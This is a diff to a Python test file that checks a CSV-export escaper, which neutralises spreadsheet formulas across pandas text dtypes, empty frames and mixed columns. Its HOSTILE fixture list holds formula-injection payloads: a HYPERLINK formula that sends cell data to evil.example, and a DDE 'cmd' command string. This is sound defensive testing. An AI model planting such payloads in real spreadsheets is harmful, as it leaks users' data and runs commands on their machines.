@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import importlib.util
 
 import pandas as pd
 import pytest
@@ -20,6 +21,14 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!
            "\t=1+1", "\r=1+1"]
 
 
+# Object columns and pandas' "string" dtype, with Python and (where installed) Arrow storage.
+STRING_DTYPES = [
+    "object", "string",
+    pytest.param("string[pyarrow]", marks=pytest.mark.skipif(
+        importlib.util.find_spec("pyarrow") is None, reason="pyarrow is not installed")),
+]
+
+
 class TestEscapeFormulaCells:
     def test_escapes_text_cells_and_leaves_numbers(self):
         frame = pd.DataFrame({"text": [*HOSTILE, "fine", None], "number": [-1.5] * 7 + [2.0],
@@ -30,6 +39,33 @@ class TestEscapeFormulaCells:
             assert out[column].iloc[6] == "fine" and pd.isna(out[column].iloc[7])
         assert out["number"].tolist() == frame["number"].tolist()
         assert frame["text"].iloc[0] == HOSTILE[0], "the input frame is not modified"
+
+    @pytest.mark.parametrize("dtype", STRING_DTYPES)
+    def test_every_text_dtype_keeps_its_dtype(self, dtype):
+        frame = pd.DataFrame({"text": pd.array([*HOSTILE, "fine", None], dtype=dtype)})
+        out = escape_formula_cells(frame)
+        assert out["text"].dtype == frame["text"].dtype
+        assert out["text"].iloc[:6].tolist() == ["'" + v for v in HOSTILE]
+        assert out["text"].iloc[6] == "fine" and pd.isna(out["text"].iloc[7])
+
+    @pytest.mark.parametrize("dtype", STRING_DTYPES)
+    def test_empty_and_harmless_columns(self, dtype):
+        """A study without responses exports empty text columns (pandas' "string" dtype made
+        ``any()`` of the mask raise TypeError); a column with nothing to escape stays as is."""
+        empty = pd.DataFrame({"text": pd.array([], dtype=dtype), "number": pd.array([], dtype=float)})
+        out = escape_formula_cells(empty)
+        assert out.empty and out.dtypes.tolist() == empty.dtypes.tolist()
+        harmless = pd.DataFrame({"text": pd.array(["fine", None], dtype=dtype)})
+        assert escape_formula_cells(harmless).equals(harmless)
+
+    def test_empty_frame_without_columns(self):
+        assert escape_formula_cells(pd.DataFrame()).empty
+
+    def test_object_column_of_mixed_values(self):
+        frame = pd.DataFrame({"mixed": ["=1", 3, float("nan"), None, "-x"]})
+        assert escape_formula_cells(frame)["mixed"].tolist()[:2] == ["'=1", 3]
+        assert pd.isna(escape_formula_cells(frame)["mixed"].iloc[2])
+        assert escape_formula_cells(frame)["mixed"].tolist()[3:] == [None, "'-x"]
 
 
 @pytest.mark.django_db
